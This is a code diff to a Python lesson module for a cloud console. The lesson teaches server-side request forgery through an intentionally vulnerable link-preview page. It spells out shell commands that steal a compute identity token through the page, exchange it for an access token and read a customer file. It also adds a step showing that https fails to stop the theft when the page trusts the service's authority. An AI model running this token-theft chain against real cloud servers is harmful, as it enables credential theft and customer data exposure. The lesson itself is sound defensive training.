@@ -5,14 +5,15 @@ from typing import Any
 
 from controlplane.activity.models import ActivityEvent
 from controlplane.console.lessons.lesson import Check, Command, Drawn, Evidence, Lesson, Place, Seen
-from controlplane.console.lessons.pasting import A_PORT, MAY_SWITCH, MEMBER, QUERY, address, example, switched
+from controlplane.console.lessons.pasting import A_PORT, MAY_SWITCH, QUERY, address, example, switched
+from controlplane.console.lessons.phrases import CREATE_PROFILE, member
 from identity.services.grants import COMPUTE_RESOURCE_LOGIN
 from identity.services.identity_tokens import EVENT as IDENTITY_TOKEN
 
 PAGE = "link-preview"
 """How examples/ssrf/vulnerable.py calls itself in its requests."""
 OBJECT_READ = "cloud-object-storage.object.read"
-MAKES_PROFILES = "iam-identity.profile.create"
+READ_TOKEN = member("access_token")
 
 
 def _stolen(evidence: Evidence) -> Seen | None:
@@ -53,8 +54,13 @@ def _plain(evidence: Evidence) -> Seen | None:
     return Seen(f"With the service at https, it got 403: {event.message}", event) if event else None
 
 
+def _past(evidence: Evidence) -> Seen | None:
+    event = evidence.first(IDENTITY_TOKEN, on=evidence.place.server.crn, after="https", where=_by_the_page)
+    return Seen("A page that trusts the service's authority got a token over https.", event) if event else None
+
+
 def _limited(evidence: Evidence) -> Seen | None:
-    event = evidence.first(OBJECT_READ, success=False, after="https", where=_customers(evidence))
+    event = evidence.first(OBJECT_READ, success=False, after="past", where=_customers(evidence))
     return Seen(f"The same stolen token was refused at {event.target_name}.", event) if event else None
 
 
@@ -76,73 +82,85 @@ def _customers(evidence: Evidence) -> Any:
     return lambda event: event.target_name == f"{evidence.place.name}-customers"
 
 
+def _start_page(trusting: str = "") -> str:
+    """In the background; it trusts the certificates of a file, or else those that the machine trusts."""
+    trust = f"SSL_CERT_FILE={shlex.quote(trusting)} " if trusting else ""
+    return f"{trust}timeout 30m \\\n  python3 {example('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!"
+
+
 def _commands(place: Place) -> list[Command]:
     name, shop = place.server.name, place.name
     store = f"{place.control_plane}/cos/{shop}"
-    steal = f"webhook PUT \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
-    use = f'curl -s {store}-customers/customers.csv -H "Authorization: Bearer $IAM"; echo'
+    steal = f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
+    use = f'curl -s {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
     return [
         Command(
             "Something to steal",
             f"{switched(name, protocol='http')}\npython3 {example('ssrf/shop.py')} wide {shlex.quote(name)} {shop}",
             f"A shop: two buckets, and a trusted profile {shop} for its web server. The server needs the pages. "
             "It was given everything, as it was less work.",
-            needs=MAKES_PROFILES,
+            needs=CREATE_PROFILE,
         ),
         Command(
             "A page with a hole",
             f"{A_PORT}\nURL={address(name)}\n"
-            f"timeout 30m python3 {example('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!\n"
-            f"{MEMBER}\n"
-            'webhook() { curl -sG --retry 5 --retry-connrefused "http://127.0.0.1:$PORT/webhook" '
-            '--data-urlencode "method=$1" --data-urlencode "url=$2" --data-urlencode "header=$3"; }',
+            f"{_start_page()}\n"
+            "webhook() {\n"
+            '  curl -sG --retry 5 --retry-connrefused "http://127.0.0.1:$PORT/webhook" \\\n'
+            '    --data-urlencode "method=$1" --data-urlencode "url=$2" --data-urlencode "header=$3"\n}',
             "A program on the server fetches what its visitors name: a preview of a link, a trial of a webhook. It "
             "listens on this machine alone, calls metadata services alone, and says so. Read it, it is short. Look "
             "for THE HOLE.",
         ),
         Command(
             "Steal the identity",
-            f"STOLEN=$({steal} | member access_token)\necho ${{#STOLEN}} characters",
+            f"STOLEN=$({steal} \\\n  | {READ_TOKEN})\necho ${{#STOLEN}} characters",
             "You are a visitor. You may not call the metadata service of that server; the page may. It does it for "
             "you, and shows you the answer.",
         ),
         Command(
             "Use it from elsewhere",
-            f"IAM=$(curl -s {place.control_plane}/identity/token "
-            "-d grant_type=urn:ibm:params:oauth:grant-type:cr-token "
-            f'-d cr_token="$STOLEN" -d profile_name={shop} | member access_token)\n{use}',
+            f"IAM=$(curl -s {place.control_plane}/identity/token \\\n"
+            "  -d grant_type=urn:ibm:params:oauth:grant-type:cr-token \\\n"
+            f'  -d cr_token="$STOLEN" -d profile_name={shop} \\\n  | {READ_TOKEN})\n{use}',
             "This part runs on your own machine. A token says who; it does not say from where. So the thief reads what "
             "the server may read: the customers.",
         ),
         Command(
             "Defence 1: method and header",
-            'curl -sG "http://127.0.0.1:$PORT/preview" '
-            f'--data-urlencode "url=$URL/identity/v1/token?{QUERY}"; echo\n'
-            f"webhook PUT \"$URL/identity/v1/token?{QUERY}\" 'X-Other: ibm'; echo",
+            'curl -sG "http://127.0.0.1:$PORT/preview" \\\n'
+            f'  --data-urlencode "url=$URL/identity/v1/token?{QUERY}"; echo\n'
+            f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'X-Other: ibm'; echo",
             "The preview lets you choose an address and no more, as most such holes do. It sends a GET: 405. A PUT "
             "without the header Metadata-Flavor: 400. This defence is always on. It stops every hole where a visitor "
             "chooses the address alone, and it does not stop this webhook, where they choose method and header too.",
         ),
         Command(
             "Defence 2: https",
-            f"{switched(name, protocol='https')}\n"
-            f"{steal}; echo\nSECURE={address(name)}\n"
-            f"webhook PUT \"$SECURE/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'; echo\n"
-            f"{switched(name, protocol='http')}",
+            f"{switched(name, protocol='https')}\n{steal}; echo\n"
+            f"SECURE={address(name)}\n{steal.replace('$URL', '$SECURE')}; echo",
             "Over http: 403. Over https the page does not believe the certificate, for it trusts the usual "
-            "authorities. That also stops holes that write raw bytes to a port, which can speak http and no TLS. It "
-            "does not stop a page that trusts the right authority, or that checks nothing: start the page with "
-            "SSL_CERT_FILE set to Baremint's CA bundle, and the theft works again.",
+            "authorities; that leaves no trace at the service. It also stops holes that write raw bytes to a port: "
+            "they can speak http, and no TLS.",
+            needs=MAY_SWITCH,
+        ),
+        Command(
+            "What defence 2 does not stop",
+            f"kill $PAGE; wait $PAGE\n{_start_page(place.ca_bundle)}\n"
+            f"{steal.replace('$URL', '$SECURE')} | cut -c 1-60\n{switched(name, protocol='http')}",
+            "The same page, on a server whose programs trust the service's authority, as they do where somebody took "
+            "care of it. One that checks no certificate at all would do. The theft works as before. https keeps out "
+            "those on the path, not those on the server.",
             needs=MAY_SWITCH,
         ),
         Command(
             "Defence 3: a smaller profile",
             f"python3 {example('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
-            f'curl -s {store}-pages/index.html -H "Authorization: Bearer $IAM"\nkill $PAGE',
+            f'curl -s {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
             "The thief still has the token, and it still works: for the pages, which everybody may see. This defence "
             "stops no theft. It is the only one that holds whatever the hole is, and it counts for tokens that are "
             "already stolen, as soon as a service asks what they may do.",
-            needs=MAKES_PROFILES,
+            needs=CREATE_PROFILE,
         ),
     ]
 
@@ -173,6 +191,7 @@ LESSON = Lesson(
         Drawn(1, 2, "GET token", "get", "refused"),
         Drawn(1, 2, "PUT token, no header", "header", "refused"),
         Drawn(1, 2, "PUT over http", "https", "refused"),
+        Drawn(1, 2, "PUT over https, trusted", "past"),
         Drawn(3, 0, "no customers for you", "limited", "refused"),
     ),
     commands=_commands,
@@ -183,6 +202,7 @@ LESSON = Lesson(
         Check("get", "Defence 1: a GET gets nothing", "Try it by the preview of a link.", _get),
         Check("header", "Defence 1: no header, no token", "Try a PUT without the header.", _no_header),
         Check("https", "Defence 2: not over http", "Set the server to https, and let the page try.", _plain),
+        Check("past", "Past defence 2", "Let a page try that trusts the service's authority.", _past),
         Check("limited", "Defence 3: worth less", "Make the profile smaller, use the stolen token again.", _limited),
     ),
     watches=(IDENTITY_TOKEN, COMPUTE_RESOURCE_LOGIN, OBJECT_READ),
